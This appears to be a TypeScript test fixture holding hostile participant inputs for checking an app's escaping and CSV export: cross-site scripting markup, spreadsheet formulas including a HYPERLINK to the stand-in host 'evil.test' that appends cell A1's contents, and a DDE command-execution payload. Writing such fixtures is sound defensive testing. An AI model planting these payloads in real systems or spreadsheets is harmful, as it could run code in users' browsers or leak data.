// Participant text that tries to be something else: markup and script, spreadsheet formulas,
// zero-width characters and emoji. Each value fits its field's max length in the schema (name 40,
// action 500, trigger 300, measure 300, support 200, check-in note 1000). Controls and direction
// overrides are refused by the server (tests/integration/field-checks.test.ts), so they are not here.
const ZW = "\u200B\u200D\u2060"; // zero-width space, joiner, word joiner

export const HOSTILE = {
  /** Participant names: one is markup, one a formula (the CSV's first cell of that row). */
  name: `<img src=x onerror="window.__pwned=1">😀`,
  formulaName: `=HYPERLINK("http://evil.test","点我")`,
  action: `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1"> 先问${ZW}客户 txt.exe 👍🏽👨‍👩‍👧`,
  trigger: `=HYPERLINK("http://evil.test/?d="&A1,"点我")`,
  measure: `+cmd|' /C calc'!A0`,
  support: `@SUM(1) -1+1 <b onmouseover="window.__pwned=1">粗</b>`,
  note: `-1+1 <svg onload="window.__pwned=1"></svg></textarea><iframe src="javascript:window.__pwned=1"></iframe> ${ZW}🎉`,
} as const;

/** Limits of the schema, to build text that is one character too long. */
export const MAX_LENGTH = { name: 40, action: 500, trigger: 300, measure: 300, support: 200, note: 1000 } as const;

/** Text one character (code point) over a field's limit. */
export const tooLong = (field: keyof typeof MAX_LENGTH) => "长".repeat(MAX_LENGTH[field] + 1);
